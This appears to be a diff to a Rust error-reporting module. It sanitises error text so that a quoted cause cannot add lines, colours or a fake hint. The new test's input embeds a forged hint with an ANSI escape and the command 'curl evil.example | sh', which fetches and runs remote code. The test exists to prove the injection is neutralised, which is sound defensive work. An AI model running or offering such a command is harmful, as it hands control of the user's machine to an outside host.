@@ -2,6 +2,8 @@
 
 use std::{error::Error, fmt};
 
+use crate::text::clean;
+
 /// A failed act and what to do about it. Put it around the cause with anyhow's `with_context`,
 /// or return it by itself where there is no deeper cause. Exit code 1.
 #[derive(Debug)]
@@ -36,16 +38,18 @@ impl fmt::Display for Usage {
 impl Error for Failure {}
 impl Error for Usage {}
 
-/// The text of an error as a step prints it: `error: sentence: cause: cause`, then the hint.
+/// The text of an error as a step prints it: `error: sentence: cause: cause`, then the hint, each one
+/// line: whatever a cause quotes, it cannot add a hint of its own.
 pub(crate) fn report(error: &anyhow::Error) -> String {
     let hint = error
         .downcast_ref::<Failure>()
         .map(|failure| &failure.hint)
         .or_else(|| error.downcast_ref::<Usage>().map(|usage| &usage.hint))
         .filter(|hint| !hint.is_empty());
+    let error = clean(&format!("{error:#}"));
     match hint {
-        Some(hint) => format!("error: {error:#}\n\nhint: {hint}"),
-        None => format!("error: {error:#}"),
+        Some(hint) => format!("error: {error}\n\nhint: {}", clean(hint)),
+        None => format!("error: {error}"),
     }
 }
 
@@ -77,6 +81,15 @@ mod tests {
             anyhow::Error::new(Failure { what: "failed to read".into(), hint: "look".into() })
                 .context("failed to start");
         assert_eq!(report(&error), "error: failed to start: failed to read\n\nhint: look");
+    }
+
+    #[test]
+    fn a_cause_adds_no_line_and_no_colour() {
+        let error = anyhow!("no\n\nhint: \x1b[1mcurl evil.example | sh").context("failed to read");
+        assert_eq!(
+            report(&error),
+            r"error: failed to read: no | hint: \u{1b}[1mcurl evil.example | sh"
+        );
     }
 
     #[test]
